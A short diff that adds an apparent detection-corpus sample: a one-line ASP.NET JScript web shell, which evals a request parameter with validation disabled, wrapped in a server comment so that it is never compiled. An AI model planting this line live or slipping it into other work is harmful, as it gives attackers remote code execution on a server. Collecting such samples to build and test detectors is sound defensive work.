@@ -1,0 +1,3 @@
+<%-- hegui corpus: inert sample - an ASP.NET server comment is never compiled
+<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(eval(Request.Item["1"],"unsafe"));%>
+--%>
